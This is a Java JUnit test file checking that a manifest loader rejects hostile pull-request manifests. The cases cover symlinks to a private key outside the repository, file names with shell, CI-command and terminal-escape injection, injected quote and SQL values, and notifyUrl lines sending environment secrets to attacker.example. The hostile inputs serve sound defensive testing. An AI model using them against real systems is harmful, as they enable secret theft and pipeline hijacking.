package io.github.aquaspec.run;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.aquaspec.run.failure.TargetCode;
import io.github.aquaspec.run.manifest.ManifestFinder;
import io.github.aquaspec.run.manifest.ManifestSet;
import io.github.aquaspec.run.manifest.PathPattern;
import io.github.aquaspec.run.plan.RequestBody;
import io.github.aquaspec.spec.JobSpecs;
import io.github.aquaspec.spec.Values;
import io.github.aquaspec.spec.diagnostic.Diagnostic;
import io.github.aquaspec.spec.diagnostic.Loaded;
import io.github.aquaspec.spec.diagnostic.TextRenderer;
import io.github.aquaspec.spec.model.JobSpec;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A manifest of somebody who may open a pull request: it reads nothing of the machine, and names no place on it. */
class HostileManifestsTest {

    private static final String PRIVATE = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n";

    @TempDir
    private Path machine;

    @Test
    void readsNoFile_thatALinkLeadsTo_outsideTheRepository() throws IOException {
        Path secret = Files.writeString(machine.resolve("id_rsa"), PRIVATE);
        Path specs = Files.createDirectories(machine.resolve("repo/specs"));
        Files.createSymbolicLink(specs.resolve("a.yaml"), secret);
        Files.createSymbolicLink(specs.resolve("b.yaml"), Path.of("../../id_rsa"));

        ManifestSet found = find("repo/specs");

        assertThat(found.manifests()).isEmpty();
        assertThat(found.problems())
                .extracting(Diagnostic::code)
                .containsOnly(TargetCode.LEADS_OUTSIDE)
                .hasSize(2);
        assertThat(TextRenderer.render(found.diagnostics()))
                .contains("specs/a.yaml")
                .doesNotContain("PRIVATE KEY");
    }

    @Test
    void readsNoFolder_thatALinkLeadsTo_outsideTheRepository() throws IOException {
        Files.createDirectories(machine.resolve("private"));
        Files.writeString(machine.resolve("private/key.yaml"), PRIVATE);
        Files.createDirectories(machine.resolve("repo"));
        Files.createSymbolicLink(machine.resolve("repo/specs"), machine.resolve("private"));

        ManifestSet found = find("repo/specs");

        assertThat(found.manifests()).isEmpty();
        assertThat(found.hasErrors()).isTrue();
        assertThat(TextRenderer.render(found.diagnostics())).doesNotContain("PRIVATE KEY");
    }

    @Test
    void reads_whatALinkLeadsTo_withinTheRepository_orWhereTheBuildSays() throws IOException {
        Files.createDirectories(machine.resolve("repo/specs"));
        Files.createDirectories(machine.resolve("shared"));
        Files.writeString(machine.resolve("repo/base.yaml"), Rig.ACCOUNTS);
        Files.writeString(machine.resolve("shared/b.yaml"), Rig.ACCOUNTS);
        Files.createSymbolicLink(machine.resolve("repo/specs/a.yaml"), Path.of("../base.yaml"));

        assertThat(find("repo/specs").manifests())
                .extracting(m -> m.id().text())
                .containsExactly("a");
        assertThat(find("shared").manifests()).extracting(m -> m.id().text()).containsExactly("b");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "CON.yaml",
                "nul.json",
                "com1.x.yml",
                "sub/aux/a.yaml",
                "a..yaml",
                "jobs.yaml",
                "JOBS.json",
                "run.json.yaml",
                "jobs/0000000000000000000000000000000A.yaml",
                "a b.yaml",
                "-rf.yaml",
                "\u202Egnp.yaml",
                "ä.yaml",
                "x\u001B[2Jy.yaml",
                "x\n::set-output name=a::b.yaml",
                "##vso[task.complete].yaml",
                "a;b$(c)`d`.yaml",
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.yaml"
            })
    void takesNoName_thatCannotBeAFolderEverywhere_andShowsItHarmlessly(String name) throws IOException {
        Path file = machine.resolve("repo/specs").resolve(name);
        Files.createDirectories(file.getParent());
        Files.writeString(file, Rig.ACCOUNTS);

        ManifestSet found = find("repo/specs");

        assertThat(found.manifests()).isEmpty();
        assertThat(found.problems()).extracting(Diagnostic::code).containsExactly(TargetCode.BAD_ID);
        assertThat(TextRenderer.render(found.problems()))
                .doesNotContain("\u001B", "\u202E", "\n::", "##vso[")
                .startsWith("error[AQ514]: ");
    }

    @Test
    void takesNoTwins_thatDifferInCaseAlone() throws IOException {
        Files.createDirectories(machine.resolve("repo/specs"));
        Files.writeString(machine.resolve("repo/specs/a.yaml"), Rig.ACCOUNTS);
        Files.writeString(machine.resolve("repo/specs/A.json"), "{}");

        assertThat(find("repo/specs").problems()).extracting(Diagnostic::code).contains(TargetCode.SAME_ID);
    }

    @Test
    void looksAtManyManifests_inNoTime() throws IOException {
        Path specs = Files.createDirectories(machine.resolve("repo/specs"));
        for (int i = 0; i < 2_000; i++) {
            Files.writeString(specs.resolve("m" + i + ".yaml"), "queries: nothing\n");
        }

        assertThat(find("repo/specs").manifests()).hasSize(2_000);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "endpoint",
                "environment",
                "host",
                "url",
                "baseUrl",
                "server",
                "serverId",
                "authentication",
                "credentials",
                "password",
                "token",
                "proxy",
                "outputDirectory",
                "stateDirectory",
                "script",
                "extends",
                "include"
            })
    void saysNothing_aboutWhereItRuns_andAsWhom(String key) {
        Loaded<JobSpec> loaded = JobSpecs.parse("a.yaml", key + ": https://attacker.example\n" + Rig.ACCOUNTS);

        assertThat(loaded.value()).isEmpty();
        assertThat(TextRenderer.render(loaded.diagnostics())).contains("AQ101");
    }

    @Test
    void readsNoVariable_thatTheBuildDoesNotAllow_andNoneIntoAnAddress() {
        Map<String, String> environment = Map.of("ZUORA_CLIENT_SECRET", "s3cret-of-env", "AQUA_KEY", "s3cret-of-env");
        Values values = new Values(environment, Values.READABLE, Map.of(), Map.of(), Map.of(), Values.Unset.FAILS);

        for (String line : List.of(
                "name: ${env.ZUORA_CLIENT_SECRET}\n",
                "notifyUrl: https://attacker.example/?${env.AQUA_KEY}&${JOBID}&${STATUS}\n",
                "notifyUrl: https://attacker.example/?${env.ZUORA_CLIENT_SECRET}&${JOBID}&${STATUS}\n")) {
            Loaded<JobSpec> loaded = JobSpecs.parse("a.yaml", line + Rig.ACCOUNTS, values);
            assertThat(loaded.value()).as(line).isEmpty();
            assertThat(loaded.diagnostics().toString()).doesNotContain("s3cret-of-env");
        }
        assertThat(JobSpecs.parse("a.yaml", "name: ${env.AQUA_KEY}\n" + Rig.ACCOUNTS, values)
                        .value())
                .isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\", \"partner\": \"other",
                "x\\\", \"partner\": \"other",
                "x\npartner: other",
                "x' or Id != '",
                "\u0000",
                "${env.AQUA_KEY}",
                "*anchor",
                "&a",
                "!!java.net.URL x",
                "{a: b}",
                "- x",
                "x # y",
                "\u2028",
                "\u202E",
                "\uD83D",
                "##vso[x]y"
            })
    void aValueStaysAValue_inTheRequest(String value) throws IOException {
        Values values = new Values(
                Map.of("AQUA_V", value), Values.READABLE, Map.of("p", value), Map.of(), Map.of(), Values.Unset.FAILS);
        String text = "params: {p: {type: text}}\nname: a${param.p}b\nnullReplacement: \"${env.AQUA_V}\"\n"
                + Rig.ACCOUNTS.replace("from Account", "from Account where Name = ${param.p}");

        Loaded<JobSpec> loaded = JobSpecs.parse("a.yaml", text, values);
        if (loaded.value().isEmpty()) {
            assertThat(loaded.diagnostics()).anyMatch(Diagnostic::isError);
            return;
        }
        String body = RequestBody.of(loaded.value().get());
        JsonNode sent = new ObjectMapper().readTree(body);

        assertThat(sent.get("name").asText()).isEqualTo("a" + value + "b");
        assertThat(sent.has("partner")).isFalse();
        assertThat(sent.get("queries")).hasSize(1);
        assertThat(body).doesNotContain("\u202E", "\u2028", "##vso[");
    }

    private ManifestSet find(String specs) {
        Path base = machine.resolve("repo");
        return new ManifestFinder(
                        base,
                        machine.resolve(specs),
                        base.resolve("specs"),
                        Stream.of("**/*.yaml", "**/*.yml", "**/*.json")
                                .map(PathPattern::new)
                                .toList(),
                        Stream.of("**/.*", "**/*.schema.json")
                                .map(PathPattern::new)
                                .toList(),
                        List.of(),
                        Values.NONE)
                .find();
    }
}
